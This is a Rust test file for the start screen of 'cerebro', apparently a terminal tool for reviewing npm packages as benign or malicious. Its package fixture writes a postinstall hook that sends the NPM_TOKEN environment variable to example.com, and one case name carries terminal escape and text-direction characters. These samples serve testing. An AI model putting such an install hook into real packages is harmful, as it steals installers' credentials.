//! The start screen: what stands on it, and where each line leads.

use std::fs;
use std::path::{Path, PathBuf};

use cerebro::ledger::{Label, Ledger};
use cerebro::package::{self, OpenOptions};
use cerebro::queue::{Arrived, NewItem, Queue};
use cerebro::session::{About, LastPlace, Left, Session};
use cerebro::tui::view::View;
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers, MouseEventKind};
use tempfile::TempDir;

use super::case;
use super::harness::{Bench, Given, carded};

/// A folder with a ledger's place and the places of cases.
struct Home {
    folder: TempDir,
}

impl Home {
    fn new() -> Self {
        Self { folder: TempDir::new().unwrap() }
    }

    fn ledger(&self) -> PathBuf {
        self.folder.path().join("ledger.sqlite")
    }

    fn session(&self) -> Session {
        Session::at(self.folder.path().join("places.json"))
    }

    /// A small package in a folder of its own.
    fn package(&self, name: &str) -> PathBuf {
        let root = self.folder.path().join(name);
        fs::create_dir_all(&root).unwrap();
        let manifest =
            format!("{{\"name\":\"{name}\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"node run.js\"}}}}");
        fs::write(root.join("package.json"), manifest).unwrap();
        fs::write(root.join("run.js"), "require('https').get('https://example.com/?' + process.env.NPM_TOKEN);\n")
            .unwrap();
        root
    }

    fn leave(&self, name: &str, path: &Path, label: &str) {
        let about = About { path: path.to_owned(), name: name.into(), version: "1.0.0".into(), label: label.into() };
        let left = Left { sha256: format!("{name:0>64}"), about: Some(about), place: LastPlace::default() };
        self.session().keep(left).unwrap();
    }

    fn open(&self, width: u16, height: u16) -> Bench {
        let mut bench = Bench::on(carded(width, height), self.given());
        bench.settle();
        bench
    }

    fn given(&self) -> Given {
        let given = Given::new(case::package());
        Given { at_start: true, ledger: Some(self.ledger()), session: Some(self.session()), ..given }
    }
}

/// As many cases as are listed, one of them moved, one with a hostile name.
fn full() -> Home {
    let home = Home::new();
    // They lie on every machine where this test runs.
    let paths = ["Cargo.toml", "LICENSE", "models", "src", "samples", "tests", "themes", "src/tui"];
    for (n, path) in paths.into_iter().enumerate() {
        home.leave(&format!("demo-{n}"), Path::new(path), "");
    }
    home.leave("demo-moved", Path::new("/nowhere/demo-moved-1.0.0.tgz"), "malicious");
    home.leave("demo-\u{1b}[31m\u{202e}red", Path::new("src/main.rs"), "benign");
    home
}

#[rstest::rstest]
#[case(80, 24)]
#[case(200, 60)]
fn what_stands_on_it(#[case] width: u16, #[case] height: u16) {
    let first = Home::new().open(width, height);
    insta::assert_snapshot!(format!("start_first_{width}x{height}"), first.screen());
    let again = full().open(width, height);
    insta::assert_snapshot!(format!("start_again_{width}x{height}"), again.screen());
}

#[test]
fn the_first_frame_waits_for_nothing_and_looking_makes_no_ledger() {
    let home = full();
    let mut bench = Bench::on(carded(80, 24), home.given());
    bench.bench.turn().unwrap();
    assert!(bench.bench.frames() >= 1);
    bench.shows("Guided tour");
    bench.settle();
    bench.shows("demo-7 1.0.0").shows("nothing waits");
    // Every line up to the one that leaves, and what has no meaning without a package.
    bench.keys("Q").shows("cerebro queue add");
    bench.keys("? esc : esc n m E D I 1 2 z z v c").shows("No package is open").shows("Guided tour");
    assert_eq!(bench.bench.state.view, View::Start);
    assert!(!home.ledger().exists());
    bench.keys("q");
    assert!(matches!(bench.bench.state.quit, Some(Ok(()))));
}

#[test]
fn it_says_how_many_wait_and_goes_to_them() {
    let home = Home::new();
    let mut queue = Queue::new(Ledger::open(&home.ledger(), "tester").unwrap()).unwrap();
    let new: Vec<NewItem> = ["one", "two", "three"]
        .into_iter()
        .map(|name| {
            let path = home.package(name);
            let package = package::open(&path, &OpenOptions::default()).unwrap();
            let path = path.canonicalize().unwrap().to_string_lossy().into_owned();
            NewItem { path, arrived: Arrived::of(&package), published: None, source: String::new() }
        })
        .collect();
    queue.add(&new).unwrap();
    let mut bench = home.open(120, 40);
    bench.shows("3 of 3 wait").keys("j j enter");
    assert_eq!(bench.bench.state.view, View::Queue);
    // What waits is read in the background as soon as the model is there. Equal code is one row.
    while bench.bench.state.judge.is_none() {
        bench.bench.turn().unwrap();
    }
    bench.settle();
    bench.shows("one 1.0.0 ×3").keys("esc").shows("Guided tour");
    bench.keys("Q").keys("enter").keys("b").shows("Recorded: benign");
    bench.keys("H").shows("2 of 3 wait").keys("esc").shows("Case ·");
}

#[test]
fn a_case_is_gone_on_with_by_key_and_by_mouse() {
    let home = Home::new();
    let path = home.package("demo-logger");
    home.leave("demo-other", Path::new("/nowhere/at-all.tgz"), "");
    home.leave("demo-logger", &path, "benign");
    let mut bench = home.open(120, 40);
    bench.keys("G enter").shows("It was moved or removed").shows("Guided tour");
    bench.keys("k enter");
    // The SHA-256 that was left is made up: it is another archive, and that is said.
    bench.shows("demo-logger 1.0.0").shows("has changed since you left it");
    bench.keys("H");
    let (x, y) = bench.find("demo-other");
    bench.click(x, y).click(x, y - 1).shows("Guided tour").click(x, y - 1).shows("Case · npm");
    // What is left here is listed with its label.
    bench.keys("m m").keys("H").shows("malicious");
    let (_, y) = bench.find("Open a package");
    bench.mouse(MouseEventKind::Down(crossterm::event::MouseButton::Left), 40, y);
    bench.mouse(MouseEventKind::ScrollDown, 40, y);
    assert_eq!(bench.bench.state.start.selected, 1);
    assert_eq!(bench.bench.state.label, Some(Label::Malicious));
    let recent = home.session().recent().unwrap();
    assert_eq!((recent[0].about.name.as_str(), recent[0].about.path.as_path()), ("demo-logger", path.as_path()));
}

#[test]
fn a_path_is_typed_and_completed_and_what_is_no_package_leads_back() {
    let home = Home::new();
    home.package("demo-logger");
    fs::write(home.folder.path().join("demo-notes.txt"), "just notes\n").unwrap();
    let mut bench = home.open(100, 30);
    let tab = |bench: &mut Bench| {
        bench.send(cerebro::tui::state::Message::Terminal(crossterm::event::Event::Key(KeyEvent::new(
            KeyCode::Tab,
            KeyModifiers::NONE,
        ))));
        bench.settle();
    };
    bench.keys("P").text(&format!("{}/de", home.folder.path().display()));
    tab(&mut bench);
    bench.shows("demo-logger/  demo-notes.txt").text("n");
    bench.hides("demo-logger/  demo");
    tab(&mut bench);
    bench.keys("enter").shows("is not a package").shows("Guided tour");
    assert!(bench.bench.state.quit.is_none());
    bench.keys("P").text(&format!("{}/demo-l", home.folder.path().display()));
    tab(&mut bench);
    bench.keys("enter").shows("demo-logger 1.0.0").shows("says       no description");
    // From one package to the next, without the start screen between them.
    bench.keys("P").text(&format!("{}/demo-notes.txt", home.folder.path().display())).keys("enter");
    bench.shows("is not a package").shows("Guided tour");
}
